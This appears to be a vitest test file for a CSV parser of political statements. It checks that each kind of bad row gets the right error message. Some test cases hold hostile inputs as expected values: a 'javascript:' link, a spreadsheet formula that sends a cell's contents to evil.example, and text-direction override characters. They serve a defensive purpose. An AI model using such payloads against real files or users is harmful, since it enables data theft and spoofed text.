import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { describeFault, type Fault } from '../../../src/core/statements/fault.ts';
import { parseStatements } from '../../../src/core/statements/statements.ts';
import { squareDataset } from '../../fixtures/square-map.ts';
import { registry } from '../../fixtures/world.ts';

/** What is wrong with a file of test/fixtures/bad-data; its map has the stances agreed and doubted. */
function faultsIn(file: string): readonly Fault[] {
  const text = readFileSync(new URL(`../../fixtures/bad-data/${file}`, import.meta.url), 'utf8');
  const result = parseStatements(text, squareDataset(), registry, file);
  return result.ok ? [] : result.faults;
}

/** Where a fault must be told, and the words that must stand in its one line. */
interface Expected {
  readonly line: number;
  readonly place: string;
  readonly value: string | undefined;
  readonly says: RegExp;
}

interface BadFile {
  readonly file: string;
  readonly name: string;
  readonly faults: readonly Expected[];
}

const SAVE_AS_UTF_8 = /holds a character that is not UTF-8; save the file as UTF-8/;

const badFiles: readonly BadFile[] = [
  {
    file: 'unknown-country.csv',
    name: 'an unknown country is told with the one that was meant',
    faults: [
      {
        line: 3,
        place: 'actor',
        value: 'GUA',
        says: /column actor: "GUA" is not a known actor; did you mean GT, Guatemala\?$/,
      },
    ],
  },
  {
    file: 'unknown-stance.csv',
    name: 'an unknown stance is told with the nearest one of the map',
    faults: [
      {
        line: 3,
        place: 'stance',
        value: 'douted',
        says: /"douted" is not a known stance; did you mean doubted\?$/,
      },
    ],
  },
  {
    file: 'repeated-key.csv',
    name: 'a repeated key is told with the line that has it first, and the way out',
    faults: [
      {
        line: 4,
        place: 'statement, utterance, source, part',
        value: 'GT-one/a/first/1',
        says: /is the key of line 3 too; .*part number/,
      },
    ],
  },
  {
    file: 'quotation-without-source.csv',
    name: 'a quotation without a source is refused',
    faults: [
      {
        line: 3,
        place: 'source',
        value: '',
        says: /must not be empty: a quotation needs the source that prints it/,
      },
    ],
  },
  {
    file: 'quotation-without-language.csv',
    name: 'a quotation without a language is refused',
    faults: [
      {
        line: 3,
        place: 'lang',
        value: '',
        says: /must name the language of the quotation; such as en/,
      },
    ],
  },
  {
    file: 'impossible-date.csv',
    name: 'a day that does not exist and a day written otherwise are told with the right way',
    faults: [
      {
        line: 3,
        place: 'date',
        value: '2024-02-30',
        says: /"2024-02-30" is not a day of the calendar; February 2024 has 29 days; write year, month and day, as YYYY-MM-DD$/,
      },
      { line: 4, place: 'date', value: '29/07/2024', says: /write it as 2024-07-29$/ },
    ],
  },
  {
    file: 'script-link.csv',
    name: 'a link that would run a script is refused',
    faults: [
      {
        line: 3,
        place: 'source_url',
        value: 'javascript:alert(1)',
        says: /is not a web address; it must begin with https:\/\//,
      },
    ],
  },
  {
    file: 'missing-column.csv',
    name: 'a missing column is named once, not once in every row',
    faults: [
      {
        line: 1,
        place: 'stance',
        value: undefined,
        says: /column stance: is missing from the header; add a column named stance$/,
      },
    ],
  },
  {
    file: 'unknown-column.csv',
    name: 'unknown columns are named, with the one that was meant where it is near',
    faults: [
      {
        line: 1,
        place: 'sumary:es',
        value: undefined,
        says: /is not a column of this file; did you mean summary:es\?$/,
      },
      { line: 1, place: 'colour', value: undefined, says: /is not a column of this file/ },
    ],
  },
  {
    file: 'missing-translation.csv',
    name: 'a missing translation is told in its own column',
    faults: [
      {
        line: 3,
        place: 'summary:es',
        value: '',
        says: /column summary:es: .*must not be empty: the row has a summary/,
      },
    ],
  },
  {
    file: 'disagreeing-rows.csv',
    name: 'rows of one statement that disagree are told with the line they disagree with',
    faults: [
      {
        line: 4,
        place: 'actor',
        value: 'HN',
        says: /"HN" differs from line 3 of the same statement, which has "GT"/,
      },
      { line: 4, place: 'stance', value: 'agreed', says: /differs from line 3 .*"doubted"/ },
      { line: 4, place: 'also', value: 'doubted', says: /differs from line 3 .*""/ },
    ],
  },
  {
    file: 'also-repeats-stance.csv',
    name: 'a second stance that repeats the first is refused',
    faults: [
      {
        line: 3,
        place: 'also',
        value: 'doubted',
        says: /repeats the stance; leave it empty or name another stance/,
      },
    ],
  },
  {
    file: 'latin-1.csv',
    name: 'letters of an encoding that is not UTF-8 are told with how to save the file',
    faults: [
      { line: 2, place: 'summary:es', value: 'Dud\uFFFD.', says: SAVE_AS_UTF_8 },
      { line: 3, place: 'speaker', value: 'Bernardo Ar\uFFFDvalo', says: SAVE_AS_UTF_8 },
      { line: 3, place: 'summary:es', value: 'Ten\uFFFDa dudas.', says: SAVE_AS_UTF_8 },
    ],
  },
  {
    file: 'formula.csv',
    name: 'a formula, which a spreadsheet would run on whoever opens it, is refused',
    faults: [
      {
        line: 3,
        place: 'speaker',
        value: '=HYPERLINK("https://evil.example/?"&A2,"Arévalo")',
        says: /looks like a spreadsheet formula; replace the formula by its value$/,
      },
    ],
  },
  {
    file: 'bidi-override.csv',
    name: 'characters that turn the direction of a text are refused',
    faults: [
      {
        line: 3,
        place: 'quote',
        value: 'many \u202Estbuod ynam\u202C doubts',
        says: /holds the invisible character U\+202E; type the text anew$/,
      },
      {
        line: 3,
        place: 'summary:es',
        value: '\u2066Tenía dudas.\u2069',
        says: /holds the invisible character U\+2066/,
      },
    ],
  },
];

describe('in bad data', () => {
  it.each(badFiles)('$name', ({ file, faults }) => {
    const found = faultsIn(file);
    expect(found.map(({ line, place, value }) => ({ line, place, value }))).toEqual(
      faults.map(({ line, place, value }) => ({ line, place, value })),
    );
    faults.forEach(({ line, says }, i) => {
      const text = found.map(describeFault)[i];
      expect(text).toMatch(says);
      expect(text).toContain(`${file}, line ${line}, `);
    });
  });
});

describe('in a file with many faults', () => {
  it('each is told, with the line on which an editor finds it', () => {
    const told = faultsIn('many-faults.csv').map(({ line, place }) => `${line} ${place}`);
    expect(told.sort()).toEqual(
      [
        '4 source',
        '4 part',
        '4 actor',
        '4 date',
        '4 stance',
        '4 also',
        '4 source_url',
        '4 lang',
        '4 summary:es',
        '6 utterance',
        '6 also',
        '6 summary:es',
        '7 statement, utterance, source, part',
        '7 stance',
      ].sort(),
    );
  });

  it('a row with a wrong number of cells does not hide the faults of other rows', () => {
    const told = faultsIn('wrong-cells-and-country.csv').map(describeFault);
    expect(told).toEqual([
      expect.stringMatching(/line 2: has 11 cells where the header has 10/),
      expect.stringMatching(/line 3, column actor: "GUA"/),
    ]);
  });
});
